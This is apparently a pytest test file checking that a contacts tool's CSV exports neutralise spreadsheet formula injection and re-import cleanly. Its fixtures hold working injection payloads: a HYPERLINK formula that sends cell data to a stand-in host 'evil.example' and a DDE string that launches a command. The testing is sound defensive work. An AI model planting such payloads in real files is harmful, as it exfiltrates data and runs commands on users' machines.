"""CSV exports open in a spreadsheet as text, never as formulas; the product reads its own exports back.

A contact named ``=HYPERLINK("https://evil.example/?"&A1,"click")`` (or a note starting with ``+``, ``-``,
``@``, a tab or a CR) became a live formula in whoever opened the CSV export: it could exfiltrate the other
cells or run commands (DDE). Every such cell is written with a leading apostrophe, the spreadsheets' own
"this is text" mark; ``import --format interactions`` takes the mark off again, so an export re-imports to
the same people and identities.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from innercircle.cli.main import app
from innercircle.core.plain import FORMULA_START, formula_safe, formula_unsafe

FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")'
ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
CARDS = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\n"
    f"FN:{FORMULA_NAME.replace(',', chr(92) + ',')}\r\nEMAIL:eq@formula.example\r\nORG:{ORG}\r\n"
    "NOTE:-2+3\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Plus Person\r\nEMAIL:plus@formula.example\r\n"
    "TEL:+14155550123\r\nORG:+Org\r\nEND:VCARD\r\n"
)


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1 415", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", "", "a=b", "'"],
)
def test_formula_safe_is_undone_exactly_by_formula_unsafe(cell: str) -> None:
    safe = formula_safe(cell)
    assert not safe.startswith(FORMULA_START)  # a spreadsheet never sees a formula start
    assert formula_unsafe(safe) == cell
    # only cells that start a formula (after apostrophes) change
    assert (safe != cell) == cell.lstrip("'").startswith(FORMULA_START)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_exported_cell_starts_a_formula(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "contacts.vcf").write_text(CARDS, encoding="utf-8", newline="")
    assert cli("init", "--name", "Ada Lovelace", "--me", "ada@example.com").exit_code == 0
    r = cli("import", str(tmp_path / "contacts.vcf"))
    assert r.exit_code == 0, r.output
    assert cli("log", "call", "plus@formula.example", "--at", "2026-11-02", "--note", "=cmd()").exit_code == 0
    names = {p["name"] for p in json.loads(cli("people", "--json").stdout)}
    assert FORMULA_NAME in names  # stored as it came: only the export escapes it

    people = _rows(cli("export", "--format", "csv").stdout)
    interactions = _rows(cli("export", "--format", "csv", "--what", "interactions").stdout)
    cells = [v for row in people + interactions for v in row.values()]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    by_name = {p["name"]: p for p in people}
    assert (by_name["'" + FORMULA_NAME]["org"], by_name["'" + FORMULA_NAME]["notes"]) == ("'" + ORG, "'-2+3")
    assert (by_name["Plus Person"]["phones"], by_name["Plus Person"]["org"]) == ("'+14155550123", "'+Org")
    call = next(i for i in interactions if i["channel"] == "call")
    assert (call["to"], call["note"]) == ("plus@formula.example", "'=cmd()")


def test_an_exported_interactions_csv_imports_back_unchanged(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Phones start with ``+``: the apostrophe the export adds is taken off on import, so the same
    identities come back (not a new person named "'+1415…")."""
    assert cli("init", "--name", "Ada Lovelace", "--me", "ada@example.com").exit_code == 0
    assert cli("add", "Grace Hopper", "--id", "+14155550123").exit_code == 0
    for day in ("2026-10-01", "2026-10-20"):
        assert cli("log", "call", "Grace Hopper", "--at", day).exit_code == 0
    exported = cli("export", "--format", "csv", "--what", "interactions").stdout
    assert "'+14155550123" in exported
    (tmp_path / "log.csv").write_text(exported, encoding="utf-8", newline="")
    before = json.loads(cli("show", "Grace Hopper", "--json").stdout)
    fresh = tmp_path / "fresh.db"
    runner = CliRunner()

    def again(*args: str):  # type: ignore[no-untyped-def]
        return runner.invoke(app, ["--db", str(fresh), *args], catch_exceptions=False)

    assert again("init", "--name", "Ada Lovelace", "--me", "ada@example.com").exit_code == 0
    r = again("import", str(tmp_path / "log.csv"), "--format", "interactions")
    assert r.exit_code == 0, r.output
    people = json.loads(again("people", "--json").stdout)
    assert [i["value"] for p in people for i in p["identities"]] == ["+14155550123"]
    after = json.loads(again("show", "+14155550123", "--json").stdout)
    assert [(t["at"], t["channel"]) for t in after["timeline"]] == [
        (t["at"], t["channel"]) for t in before["timeline"]
    ]
